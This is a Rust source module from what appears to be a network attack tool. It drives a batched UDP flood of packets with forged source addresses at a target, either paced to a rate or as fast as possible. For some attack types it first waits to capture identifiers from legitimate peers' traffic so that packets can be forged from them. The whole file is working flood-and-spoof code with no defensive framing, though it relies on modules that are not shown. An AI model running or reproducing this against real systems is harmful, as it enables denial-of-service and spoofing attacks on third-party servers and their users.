//! The flood of those who forge their addresses: batch after batch, at a rate or as fast as can be.
//!
//! Owns the pace and the counting of answers. One thread, one socket, no memory that grows. Ends by time, by count, or when
//! told to.

use std::io;
use std::net::{SocketAddr, UdpSocket};
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread;
use std::time::{Duration, Instant};

use super::mmsg::{self, BATCH, Inbox, Out};
use super::packets::Forge;
use super::plan::Assault;
use super::tally::Tally;
use super::tap::Tap;
use super::unix_s;

/// When an attack begins and ends.
pub(super) struct Bounds<'a> {
    pub(super) until: Instant,
    pub(super) stop: &'a AtomicBool,
}

impl Bounds<'_> {
    pub(super) fn over(&self) -> bool {
        self.stop.load(Ordering::Relaxed) || Instant::now() >= self.until
    }
}

/// Sends until the end.
///
/// # Errors
/// The system refuses a socket, or packets from these addresses.
pub(super) fn run(
    target: SocketAddr,
    assault: &Assault,
    seed: u64,
    tap: &Tap,
    tally: &Tally,
    bounds: &Bounds<'_>,
) -> io::Result<()> {
    let captured = match super::attack::Means::Captured == assault.attack.means() {
        true => match wait_for_prey(assault, tap, bounds) {
            Some(captured) => captured,
            None => {
                tally.refused("nothing was captured");
                return Ok(());
            }
        },
        false => super::tap::Captured::default(),
    };
    let origins = assault.origins().ok_or_else(|| io::Error::other("the plan was not checked"))?;
    let mut forge = Forge::new(assault.attack, origins, captured, seed, unix_s());
    let socket = mmsg::socket(target)?;
    let mut inbox = Inbox::new();
    let mut pace = Pace::new(assault.rate);
    let mut left = assault.packets_max.unwrap_or(u64::MAX);
    let started = Instant::now();
    let mut told_s = unix_s();
    while left > 0 && !bounds.over() {
        let due = pace.due().min(left as usize).min(BATCH);
        if due == 0 {
            listen(&socket, &mut inbox, tally)?;
            thread::sleep(Duration::from_micros(200));
            continue;
        }
        let now_s = unix_s();
        if now_s != told_s {
            told_s = now_s;
            forge.set_now(now_s);
        }
        let mut batch = [Out { source: target.ip(), bytes: &[] }; BATCH];
        let mut count = 0;
        for (slot, out) in batch.iter_mut().zip(forge.next(due)) {
            *slot = out;
            count += 1;
        }
        send_all(&socket, target, &batch[..count], tally, bounds)?;
        pace.sent(count);
        left -= count as u64;
        tally.us.set(started.elapsed().as_micros() as u64);
        listen(&socket, &mut inbox, tally)?;
    }
    listen(&socket, &mut inbox, tally)
}

/// What friends must first have sent before it can be stolen.
fn wait_for_prey(assault: &Assault, tap: &Tap, bounds: &Bounds<'_>) -> Option<super::tap::Captured> {
    while !bounds.over() {
        let captured = tap.captured();
        let there = match assault.attack {
            super::Attack::CapturedId => captured.id(0).is_some(),
            _ => captured.initial(0).is_some(),
        };
        if there {
            return Some(captured);
        }
        thread::sleep(Duration::from_millis(10));
    }
    None
}

/// Sends a batch, whole.
pub(super) fn send_all(
    socket: &UdpSocket,
    target: SocketAddr,
    mut batch: &[Out<'_>],
    tally: &Tally,
    bounds: &Bounds<'_>,
) -> io::Result<()> {
    while !batch.is_empty() && !bounds.over() {
        match mmsg::send(socket, target, batch) {
            Ok(sent) => {
                let octets = batch[..sent].iter().map(|out| out.bytes.len()).sum();
                tally.sent(sent, octets);
                batch = &batch[sent..];
            }
            // Our own buffer is full, or an earlier datagram met a closed port: neither is a reason to stop.
            Err(error) if matches!(error.kind(), io::ErrorKind::WouldBlock | io::ErrorKind::ConnectionRefused) => {
                thread::yield_now();
            }
            Err(error) if error.raw_os_error() == Some(libc::ENOBUFS) => thread::yield_now(),
            Err(error) if error.kind() == io::ErrorKind::Interrupted => {}
            Err(error) => return Err(error),
        }
    }
    Ok(())
}

/// Counts what came back; one batch, so that answers never hold up the flood. What is left over the kernel drops.
fn listen(socket: &UdpSocket, inbox: &mut Inbox, tally: &Tally) -> io::Result<()> {
    let mut octets = 0;
    let answers = inbox.receive(socket, |_, bytes| octets += bytes.len())?;
    tally.answers.add(answers);
    tally.answer_octets.add(octets);
    Ok(())
}

/// How many are due.
pub(super) struct Pace {
    rate: u32,
    since: Instant,
    sent: u64,
}

impl Pace {
    pub(super) fn new(rate: u32) -> Self {
        Self { rate, since: Instant::now(), sent: 0 }
    }

    /// By now; without a rate, always a batch.
    pub(super) fn due(&mut self) -> usize {
        if self.rate == 0 {
            return BATCH;
        }
        let due = (self.since.elapsed().as_secs_f64() * f64::from(self.rate)) as u64;
        let owed = due.saturating_sub(self.sent);
        // Behind by more than a tenth of a second there is no catching up: a burst would be another attack.
        let most = u64::from(self.rate / 10).max(1);
        if owed > most {
            self.sent = due - most;
        }
        owed.min(most) as usize
    }

    pub(super) fn sent(&mut self, count: usize) {
        self.sent += count as u64;
    }
}
